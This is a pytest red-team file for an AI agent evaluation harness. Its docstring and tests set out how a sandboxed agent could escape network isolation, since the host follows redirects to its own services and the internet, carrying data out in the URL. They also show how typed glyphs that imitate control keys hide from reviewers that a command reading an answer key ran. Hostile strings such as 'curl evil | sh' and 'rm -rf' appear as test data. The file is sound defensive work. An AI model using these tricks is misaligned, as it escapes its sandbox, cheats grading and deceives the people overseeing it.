"""Red team 14d: the fixes of the last hour (16c7f36 `_safe_runtime`, 1981009 `typed_lines`) attacked without
Docker: swe-rex's client driven against real HTTP servers on 127.0.0.1 (as tests/test_agents.py's
`test_a_tool_servers_reply_is_never_more_than_a_broken_tool_server`), and a real bash on the browser terminal's
pseudo-terminal (as tests/test_attacks_redteam14c.py). Each test asserts the defended behaviour: it FAILS while
the attack wins.

- R14d-1 WIN (the sandbox's network isolation undone by the host; every run): `_safe_runtime._request` posts
  with aiohttp's default `allow_redirects=True`. The agent, root in its sandbox, serves port 8000 itself and
  answers a `run_in_session` with 307 (or 302/303/301) and `Location: http://<anything the host reaches>/...`:
  the host follows it, up to 10 hops, to any address, its own 127.0.0.1 services and the internet included,
  POSTing the action's JSON (307/308: the command text the agent chose, and the X-API-Key header) or GETting
  (301/302/303) a URL whose path and query the agent wrote; a JSON object that comes back is a
  `BashObservation` and its `output` goes back to the model. Sandboxes are on an internal network with no
  gateway and no host address (environment/docker_sandbox.py's `sandbox_network`) so they reach nothing: this
  gives the agent blind requests to the host's own services and the internet, exfiltration in the URL, and a
  read channel from any server that answers `{"output": ...}` (a cheat server the model's makers planted).
  `test_the_host_does_not_follow_a_redirect_from_the_tool_server` (307 and 302).
- R14d-2 WIN (honest runs lose: a correct reply read as a broken one; every run above ~a few hundred KB on
  loopback, any size that arrives in two TCP reads): `_request` reads the body with
  `resp.content.read(REPLY_MAX_BYTES + 1)`, which is aiohttp's `StreamReader.read(n)`: it returns what is
  buffered *now*, at most n bytes, not n bytes or the end. A reply that arrives in more than one read is cut at
  the first, `json.loads` fails, and the run ends `tool_server_lost` (graded: an honest agent whose command
  printed a big file, a long test log, loses its attempt). Measured: a 100 KB output passes, a 1 MB output
  fails on every run here; a 200-byte reply written in two parts 0.2 s apart fails every run (the real server
  goes through Docker's port forward, which splits further). The existing "over-the-cap" test cannot see it
  (a cut reply is a ToolServerBroke too). `test_a_tool_servers_reply_in_several_reads_is_read_whole` (1 MB in
  one write; 200 bytes in two writes).
- R14d-3 WIN (the list lies, no sign at all; every run): `typed_lines` shows printable characters as
  themselves, and shows the keys it names with the same glyphs a candidate can type: `⟨^C⟩` (U+27E8 ^ C
  U+27E9), `⟨⌫⟩`, `⟨^U⟩`, `⟨^A⟩`, `⟨del⟩`, `⟨CUT⟩`, `⟨… more characters typed, not shown here …⟩`. Typed
  literally they are bash text, not keys. `cat …/answer-key.txt ` then the real ^C then Enter runs nothing,
  and the list shows `cat …/answer-key.txt ⟨^C⟩`; typed as `cat …/answer-key.txt ⟨^C⟩` (the three-character
  glyph sequence, valid UTF-8 in one websocket text message or key by key) then Enter, bash runs `cat` (the
  secret printed; the glyphs are one more file name, not found) and the list shows the very same entry. The
  same with `⟨^U⟩`/`⟨⌫⟩` (an "erased" command that ran) and `⟨^A⟩# ` (a "commented-out" command that ran).
  `test_a_typed_key_glyph_is_not_shown_as_the_key_it_imitates` (real bash) and
  `test_typed_glyphs_and_the_keys_they_imitate_are_listed_differently` (the rebuilder alone).
- R14d-4 WIN (bounded, but 25 times the bound; every run): `REPLY_MAX_BYTES` (64 MB) caps the reply's bytes,
  then `json.loads` builds Python objects from them: `[{},{},...]` is 3 bytes a dict of ~64 bytes plus its
  list slot. A 64 MB reply under the cap costs the host ~1.6 GB before `output_class(**data)` rejects it, per
  request, per concurrent trial (each agent's server can send one every step). Today R14d-2 cuts a big reply
  at its first read, so the full 1.6 GB needs R14d-2 fixed; a reply that arrives in one read shows it now. Measured with tracemalloc, cap monkeypatched to 256 KB (one read on loopback): peak ~5 MB, 20 times the reply.
  `test_a_reply_under_the_cap_does_not_cost_the_host_many_times_the_cap`.

Defences (each test above failed before them):
- R14d-1, 2, 4 (`agents/api._safe_runtime`): no redirect is followed, and any status but 2xx and 511 is a
  broken tool server; the reply is read to its end, 32 MB at most; it must be a JSON object, and it is parsed by
  its model's schema (`model_validate_json`: what the model ignores builds nothing).
- R14d-3 (`agents/terminal.typed_lines`, `assess/scorecard.replay_page`): every typed character outside
  printable ASCII is shown by its code point (⟨U+27E8⟩), so nothing typed looks like a key the record names,
  and the replay page sets the record's own tokens apart (<kbd>).
"""
from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from sweserve.agents.terminal import typed_lines


def _serve(handler_cls):
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler_cls)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    return server


def _run_in_session(port):
    from swerex.runtime.abstract import BashAction

    import sweserve.agents.api as api

    runtime = api._safe_runtime("http://127.0.0.1", port, "t")
    return asyncio.run(runtime.run_in_session(BashAction(command="curl evil | sh", check="silent")))


# ---- R14d-1: the host follows the tool server's redirects anywhere

@pytest.mark.parametrize("code", [307, 302])
def test_the_host_does_not_follow_a_redirect_from_the_tool_server(code):
    import aiohttp

    import sweserve.agents.api as api

    hits = []

    class Elsewhere(BaseHTTPRequestHandler):  # a service only the host reaches (its 127.0.0.1, the internet)
        def log_message(self, *args):
            pass

        def _any(self):
            hits.append((self.command, self.path))
            body = b'{"output": "what only the host could read", "exit_code": 0}'
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        do_GET = do_POST = _any

    elsewhere = _serve(Elsewhere)

    class ToolServer(BaseHTTPRequestHandler):  # the agent's own server on the sandbox's port 8000
        def log_message(self, *args):
            pass

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(code)
            self.send_header("Location", f"http://127.0.0.1:{elsewhere.server_address[1]}/exfil?data=anything")
            self.send_header("Content-Length", "0")
            self.end_headers()

    tool = _serve(ToolServer)
    try:
        try:
            obs = _run_in_session(tool.server_address[1])
            outcome = obs.output
        except (api.ToolServerBroke, OSError, aiohttp.ClientError) as exc:
            outcome = repr(exc)
    finally:
        tool.shutdown()
        elsewhere.shutdown()
    assert hits == [], f"the host sent {hits} where the tool server pointed it; the model was given {outcome!r}"


# ---- R14d-2: a reply that arrives in more than one read is cut at the first

def _reply_server(parts: list[bytes], gap: float):
    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *args):
            pass

        def do_POST(self):
            self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self.send_response(200)
            self.send_header("Content-Type", "application/json")
            self.send_header("Content-Length", str(sum(map(len, parts))))
            self.end_headers()
            for i, part in enumerate(parts):
                if i:
                    time.sleep(gap)
                self.wfile.write(part)
                self.wfile.flush()

    return _serve(Handler)


@pytest.mark.parametrize("size, pieces", [(1_000_000, 1), (200, 2)], ids=["1MB-one-write", "200B-two-writes"])
def test_a_tool_servers_reply_in_several_reads_is_read_whole(size, pieces):
    body = json.dumps({"output": "x" * size, "exit_code": 0}).encode()
    cut = len(body) // 2
    parts = [body] if pieces == 1 else [body[:cut], body[cut:]]
    server = _reply_server(parts, gap=0.2)
    try:
        obs = _run_in_session(server.server_address[1])  # an honest server's honest reply
    finally:
        server.shutdown()
    assert obs.output == "x" * size and obs.exit_code == 0


# ---- R14d-3: the key glyphs the list uses can be typed, and are then text bash runs

def test_typed_glyphs_and_the_keys_they_imitate_are_listed_differently():
    cases = {  # keys really pressed -> the same line typed as glyphs
        "ctrl-c": ("cat answer-key.txt \x03", "cat answer-key.txt ⟨^C⟩"),
        "ctrl-u": ("cat answer-key.txt \x15ls", "cat answer-key.txt ⟨^U⟩ls"),
        "backspace": ("rm -rf x\x7f\x7f\x7f\x7f\x7f\x7f\x7f\x7fls", "rm -rf x⟨⌫⟩⟨⌫⟩⟨⌫⟩⟨⌫⟩⟨⌫⟩⟨⌫⟩⟨⌫⟩⟨⌫⟩ls"),
        "home-comment": ("sh evil.sh \x01# ", "sh evil.sh ⟨^A⟩# "),
    }
    same = []
    for name, (keys, glyphs) in cases.items():
        real = typed_lines([(0.0, "i", keys + "\r")])
        fake = typed_lines([(0.0, "i", glyphs + "\r")])
        if [c for _, c in real] == [c for _, c in fake]:
            same.append((name, fake))
    assert not same, f"typed glyphs listed exactly as the keys they imitate: {same}"


def test_a_typed_key_glyph_is_not_shown_as_the_key_it_imitates(tmp_path):
    from test_attacks_redteam14c import _run

    (tmp_path / "real").mkdir()
    (tmp_path / "fake").mkdir()
    ran_real, real = _run(tmp_path / "real", [b"cat {key} ", b"\x03", b"\r"])
    ran_fake, fake = _run(tmp_path / "fake", ["cat {key} ⟨^C⟩".encode(), b"\r"])
    assert not ran_real  # the real ^C: nothing ran
    assert ran_fake  # the glyphs: bash ran `cat .../answer-key.txt ⟨^C⟩` and printed the secret
    # a reviewer must be able to tell the command that ran from the one that was cancelled
    def shown(typed):  # each run's secret is in a folder of its own: compare the entries with the path named alike
        return [re.sub(r"\S*answer-key\.txt", "KEY", c) for c in typed if "answer-key" in c]

    assert shown(fake) != shown(real), (real, fake)


# ---- R14d-4: the reply's cap is on bytes; what json.loads builds from them is 25 times that

def test_a_reply_under_the_cap_does_not_cost_the_host_many_times_the_cap(monkeypatch):
    import tracemalloc

    import sweserve.agents.api as api

    cap = 2**18  # small enough to arrive in one read on loopback (R14d-2 cuts bigger ones short)
    monkeypatch.setattr(api, "REPLY_MAX_BYTES", cap)
    body = b"[" + b"{}," * (cap // 3 - 1) + b"{}]"  # under the cap: 256 KB of empty objects
    assert len(body) <= cap
    server = _reply_server([body], gap=0)
    tracemalloc.start()
    try:
        with pytest.raises(api.ToolServerBroke):
            _run_in_session(server.server_address[1])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
        server.shutdown()
    assert peak < 8 * cap, f"a {len(body)}-byte reply cost the host {peak / 2**20:.0f} MB"
